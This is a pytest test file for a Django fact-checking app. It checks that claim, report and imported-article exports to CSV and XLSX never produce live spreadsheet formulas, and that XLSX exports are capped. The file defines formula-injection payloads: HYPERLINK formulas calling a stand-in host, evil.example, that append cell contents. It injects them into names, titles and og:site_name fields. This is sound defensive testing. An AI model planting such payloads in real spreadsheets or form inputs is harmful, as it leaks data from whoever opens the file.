"""No export cell is ever a spreadsheet formula, and the XLSX export is bounded.

Text from outside (a claimant typed in, an outlet read from an imported page's
og:site_name) that starts like a formula is written as text: in CSV with a
leading apostrophe, in XLSX as a string cell (no <f> element in the sheet XML).
"""

import csv
import html
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from claims.exports import FORMULA_STARTS, headers
from claims.models import Claim, Rating
from factcheck.testing import add_primary_evidence, make_claim, make_claimant
from intake.services import article_import

LIST = reverse("claims:claim_list")
PAYLOADS = [f'{start}HYPERLINK("http://evil.example/?"&A1,"click")' for start in FORMULA_STARTS]

ARTICLE = """<!doctype html><html><head><title>Border ports open {n}</title>
<meta property="og:site_name" content="{site}"></head><body><article><h1>Border ports open</h1>
<p>Article {n}: two new border ports opened on Monday between the two countries.
Traffic through the ports grew by 12% in 2023 compared with the year before.</p>
<p>The shared border spans over a thousand kilometers and crosses high mountain passes that
close for several months every winter, when trucks wait for the roads to be cleared.</p>
</article></body></html>"""


def download(client, fmt, **filters):
    response = client.get(LIST, {"_export": fmt, **filters})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


def sheet_xml(body):
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        (name,) = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return archive.read(name).decode("utf-8")


def xlsx_rows(body):
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return list(sheet.iter_rows(values_only=True))


def assert_no_formula(rows):
    """No cell a spreadsheet would run: each formula-like one starts with the apostrophe."""
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_typed_formulas_are_text_in_csv_and_xlsx(client, editor, claim, payload):
    # Typed in as a new claimant's name, the name the claim's row carries.
    claim.claimant = make_claimant(payload)
    claim.statement = payload
    claim.save()
    client.force_login(editor)

    rows = csv_rows(download(client, "csv"))
    assert rows[1][1] == rows[1][2] == "'" + payload
    assert_no_formula(rows)

    body = download(client, "xlsx")
    assert "<f>" not in sheet_xml(body)
    assert "<f " not in sheet_xml(body)
    rows = xlsx_rows(body)
    assert rows[1][1] == rows[1][2] == payload  # the text as typed, held as a string
    cell = openpyxl.load_workbook(io.BytesIO(body)).active.cell(row=2, column=3)
    assert cell.data_type == "s"


@pytest.mark.parametrize("payload", PAYLOADS[:2], ids=repr)
def test_names_summaries_and_links_are_text_too(client, editor, reviewer, reviewed_claim, payload):
    reviewer.first_name = payload
    reviewer.save()
    reviewed_claim.article.title = payload
    reviewed_claim.article.save()
    add_primary_evidence(reviewed_claim, editor)
    reviewed_claim.settle(editor=editor, rating=Rating.TRUE, summary=payload)
    client.force_login(editor)
    rows = csv_rows(download(client, "csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Verdict summary"] == row["Article"] == "'" + payload
    assert row["Assigned reviewers"].startswith("'" + payload)
    assert_no_formula(rows)
    body = download(client, "xlsx")
    assert "<f>" not in sheet_xml(body)
    assert "<f " not in sheet_xml(body)
    row = dict(zip(*xlsx_rows(body)[:2], strict=True))
    assert row["Verdict summary"] == payload


def test_imported_outlet_and_claimant_are_text(client, editor):
    """An article whose og:site_name is a formula, imported, then exported by an editor."""
    for n, payload in enumerate(PAYLOADS):
        page = ARTICLE.format(n=n, site=html.escape(payload, quote=True))
        status, article, _count = article_import(name=f"page{n}.html", data=page.encode())
        assert status == "imported"
        assert article.outlet is not None
        for candidate in article.claims.all():
            candidate.accept(by=editor)
    client.force_login(editor)
    assert Claim.objects.worked_on().exists()

    rows = csv_rows(download(client, "csv"))
    outlet = headers().index("Outlet")
    outlets = {row[outlet] for row in rows[1:]}
    assert "'" + PAYLOADS[0] in outlets  # the og:site_name, made outlet and claimant
    assert "'" + PAYLOADS[0] in {row[2] for row in rows[1:]}
    assert_no_formula(rows)

    body = download(client, "xlsx")
    xml = sheet_xml(body)
    assert "<f>" not in xml
    assert "<f " not in xml
    assert PAYLOADS[0] in {row[outlet] for row in xlsx_rows(body)[1:]}


def test_report_downloads_have_no_formulas(client, editor, article):
    article.outlet.name = PAYLOADS[0]
    article.outlet.save(update_fields=["name"])
    make_claim(article, "four Confucius Institutes")
    client.force_login(editor)
    response = client.get(reverse("reports:breakdown", args=["outlet"]), {"format": "csv"})
    rows = csv_rows(response.content)
    assert "'" + PAYLOADS[0] in {row[0] for row in rows[1:]}
    assert_no_formula(rows)


def test_xlsx_is_a_file_written_row_by_row(client, editor, claim):
    client.force_login(editor)
    response = client.get(LIST, {"_export": "xlsx"})
    assert response.streaming  # a FileResponse over the finished temporary file
    assert response["Content-Disposition"].startswith('attachment; filename="claims-')
    assert len(xlsx_rows(b"".join(response.streaming_content))) == 2


def test_xlsx_past_the_cap_points_to_the_csv(client, editor, article, settings):
    for quote in ["four Confucius Institutes", "The shared border"]:
        make_claim(article, quote)
    settings.FACTCHECK_XLSX_MAX_ROWS = 1
    client.force_login(editor)
    response = client.get(LIST, {"_export": "xlsx", "status": "draft"}, follow=True)
    assert response.redirect_chain[-1][0] == f"{LIST}?status=draft"
    assert "at most 1 claims" in response.text
    assert "as CSV" in response.text
    assert len(csv_rows(download(client, "csv", status="draft"))) == 3
    settings.FACTCHECK_XLSX_MAX_ROWS = 2
    assert len(xlsx_rows(download(client, "xlsx", status="draft"))) == 3
